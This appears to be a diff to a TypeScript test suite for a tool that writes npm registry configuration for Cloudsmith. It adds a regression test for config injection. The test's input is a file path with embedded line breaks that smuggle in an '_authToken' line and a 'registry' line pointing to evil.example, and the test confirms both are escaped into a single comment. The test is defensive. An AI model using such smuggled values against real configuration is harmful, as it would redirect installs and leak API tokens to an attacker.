@@ -9,8 +9,7 @@ import { spawnSync } from 'node:child_process'
 import { createRequire } from 'node:module'
 import { join } from 'node:path'
 import { InputError, parseInputs, type ProgramLookup } from '../src/inputs.js'
-import { API_KEY_VARIABLE } from '../src/outputs.js'
-import { iniEntries, KEY_VARIABLE, npm, planNpm } from '../src/registries/npm.js'
+import { iniEntries, npm, planNpm } from '../src/registries/npm.js'
 import { KEY, type Plan, type PlanContext, type RegistryRequest } from '../src/registries/plan.js'
 import { planRegistries } from '../src/registries/plans.js'
 import { FORMATS } from '../src/registries/formats.js'
@@ -110,7 +109,6 @@ describe('npm: the user config', () => {
       if (step.kind === 'env') expect(step.value).not.toContain(KEY)
     }
     expect(fileOf(planned).content).toContain(`:_authToken=${TOKEN_LINE}\n`)
-    expect(KEY_VARIABLE).toBe(API_KEY_VARIABLE)
   })
 
   test('without a scope the repository is the registry for every package', () => {
@@ -649,5 +647,28 @@ describe('npm: the ini reader', () => {
       for (const entry of iniEntries(text)) if (entry.topLevel) ours[entry.key] = entry.value
       expect([text, ours]).toEqual([text, theirs])
     }
+  })
+})
+
+describe('npm: nothing from outside becomes a setting (issue 18, L3)', () => {
+  test('the carried-over path stands in one comment line, every line break and control escaped', () => {
+    const path =
+      '/home/runner/a\n//evil.example/:_authToken=${CLOUDSMITH_API_KEY}\rregistry=http://evil.example/\u2028b\u0000/.npmrc'
+    const planned = plans(
+      [request(1, 'npm npm-private')],
+      context({ [path]: 'update-notifier=false\n' }, { env: { NPM_CONFIG_USERCONFIG: path } })
+    )
+    const content = fileOf(planned).content
+    expect(content.split('\n')).toContain(
+      '; carried over from /home/runner/a\\u000a//evil.example/:_authToken=${CLOUDSMITH_API_KEY}\\u000dregistry=http://evil.example/\\u2028b\\u0000/.npmrc:'
+    )
+    // what npm reads from it: this step's two settings and the carried-over one, nothing else
+    const settings: Record<string, string> = {}
+    for (const entry of iniEntries(content)) if (entry.topLevel) settings[entry.key] = entry.value
+    expect(settings).toEqual({
+      '//npm.cloudsmith.io/acme/npm-private/:_authToken': TOKEN_LINE,
+      registry: 'https://npm.cloudsmith.io/acme/npm-private/',
+      'update-notifier': 'false'
+    })
   })
 })
